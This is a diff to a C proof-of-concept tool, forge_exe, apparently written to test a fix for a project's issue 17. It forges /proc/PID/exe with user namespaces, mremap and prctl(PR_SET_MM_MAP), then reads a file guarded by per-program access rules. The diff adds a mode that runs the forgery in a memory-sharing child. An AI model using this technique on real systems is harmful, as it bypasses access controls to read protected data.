@@ -1,13 +1,18 @@
 /* An attack on per-program access (issue 17): a process of the user makes /proc/PID/exe name
  * another program, then reads a guarded item as that program.
  *
- *   forge_exe PROGRAM FILE
+ *   forge_exe [--sharer] PROGRAM FILE
  *
  * It unshares a user namespace, where it holds CAP_CHECKPOINT_RESTORE; moves every mapping of
  * its own executable into anonymous memory at the same address (mremap over it, so the code
  * runs on unchanged); and then sets PROGRAM as its mm's executable with
  * prctl(PR_SET_MM, PR_SET_MM_MAP, ... exe_fd). /proc/PID/exe now names PROGRAM, by device,
  * inode, size, mtime and content. It then reads FILE and copies it to stdout.
+ *
+ * --sharer: a child that shares the process's memory (clone CLONE_VM, not a thread) does the
+ * unshare, the remapping and the prctl, and exits; the process itself stays in its user
+ * namespace, and its /proc/PID/exe names PROGRAM all the same (the executable is the shared
+ * memory's).
  *
  * Exit: 0 FILE was read; 1 FILE could not be opened or read (the errno on stderr); 2 the
  * forgery itself failed (stderr says which step). */
@@ -21,9 +26,13 @@
 #include <string.h>
 #include <sys/mman.h>
 #include <sys/prctl.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 struct region { unsigned long start, end; int prot; };
+static struct region regions[64];
+static int count;
+static const char *program;
 
 static int die(const char *step) {
     fprintf(stderr, "forge_exe: %s: %s\n", step, strerror(errno));
@@ -41,38 +50,10 @@ static unsigned long stat_field(const char *text, int n) {
     return p ? strtoul(p + 1, NULL, 10) : 0;
 }
 
-int main(int argc, char **argv) {
-    if (argc != 3) {
-        fprintf(stderr, "usage: forge_exe PROGRAM FILE\n");
-        return 2;
-    }
-    char self[4096];
-    ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
-    if (n < 0) return die("readlink /proc/self/exe");
-    self[n] = 0;
-
-    /* Every mapping of our own file, read before any is changed. */
-    static struct region regions[64];
-    int count = 0;
-    FILE *maps = fopen("/proc/self/maps", "r");
-    if (!maps) return die("/proc/self/maps");
-    char line[4600];
-    while (fgets(line, sizeof line, maps) && count < 64) {
-        unsigned long start, end;
-        char perms[8];
-        int path_at = 0;
-        if (sscanf(line, "%lx-%lx %7s %*s %*s %*s %n", &start, &end, perms, &path_at) < 3 || path_at == 0) continue;
-        char *path = line + path_at;
-        path[strcspn(path, "\n")] = 0;
-        if (strcmp(path, self) != 0) continue;
-        regions[count].start = start;
-        regions[count].end = end;
-        regions[count].prot = (perms[0] == 'r' ? PROT_READ : 0) | (perms[1] == 'w' ? PROT_WRITE : 0) | (perms[2] == 'x' ? PROT_EXEC : 0);
-        count++;
-    }
-    fclose(maps);
-    if (count == 0) { errno = ENOENT; return die("no mapping of our executable"); }
-
+/* The unshare, the remapping and the prctl, in the process or in a child sharing its memory. */
+static int forge(void *unused) {
+    (void)unused;
+    ssize_t n;
     if (unshare(CLONE_NEWUSER) != 0) return die("unshare(CLONE_NEWUSER)");
 
     for (int i = 0; i < count; i++) {
@@ -93,8 +74,8 @@ int main(int argc, char **argv) {
     if (n <= 0) return die("read /proc/self/stat");
     stat_text[n] = 0;
 
-    int exe = open(argv[1], O_RDONLY | O_CLOEXEC);
-    if (exe < 0) return die(argv[1]);
+    int exe = open(program, O_RDONLY | O_CLOEXEC);
+    if (exe < 0) return die(program);
     struct prctl_mm_map map = {
         .start_code = stat_field(stat_text, 26), .end_code = stat_field(stat_text, 27),
         .start_stack = stat_field(stat_text, 28),
@@ -106,6 +87,54 @@ int main(int argc, char **argv) {
     };
     if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) != 0) return die("prctl(PR_SET_MM_MAP)");
     close(exe);
+    return 0;
+}
+
+int main(int argc, char **argv) {
+    int sharer = argc > 1 && strcmp(argv[1], "--sharer") == 0;
+    argv += sharer;
+    argc -= sharer;
+    if (argc != 3) {
+        fprintf(stderr, "usage: forge_exe [--sharer] PROGRAM FILE\n");
+        return 2;
+    }
+    program = argv[1];
+    char self[4096];
+    ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
+    if (n < 0) return die("readlink /proc/self/exe");
+    self[n] = 0;
+
+    /* Every mapping of our own file, read before any is changed. */
+    FILE *maps = fopen("/proc/self/maps", "r");
+    if (!maps) return die("/proc/self/maps");
+    char line[4600];
+    while (fgets(line, sizeof line, maps) && count < 64) {
+        unsigned long start, end;
+        char perms[8];
+        int path_at = 0;
+        if (sscanf(line, "%lx-%lx %7s %*s %*s %*s %n", &start, &end, perms, &path_at) < 3 || path_at == 0) continue;
+        char *path = line + path_at;
+        path[strcspn(path, "\n")] = 0;
+        if (strcmp(path, self) != 0) continue;
+        regions[count].start = start;
+        regions[count].end = end;
+        regions[count].prot = (perms[0] == 'r' ? PROT_READ : 0) | (perms[1] == 'w' ? PROT_WRITE : 0) | (perms[2] == 'x' ? PROT_EXEC : 0);
+        count++;
+    }
+    fclose(maps);
+    if (count == 0) { errno = ENOENT; return die("no mapping of our executable"); }
+
+    if (sharer) {
+        static char stack[1 << 16];
+        pid_t child = clone(forge, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL);
+        if (child < 0) return die("clone(CLONE_VM)");
+        int status;
+        if (waitpid(child, &status, 0) != child) return die("waitpid");
+        if (!WIFEXITED(status) || WEXITSTATUS(status) != 0) return 2;
+    } else {
+        int r = forge(NULL);
+        if (r != 0) return r;
+    }
     n = readlink("/proc/self/exe", self, sizeof self - 1);
     if (n < 0) return die("readlink /proc/self/exe");
     self[n] = 0;
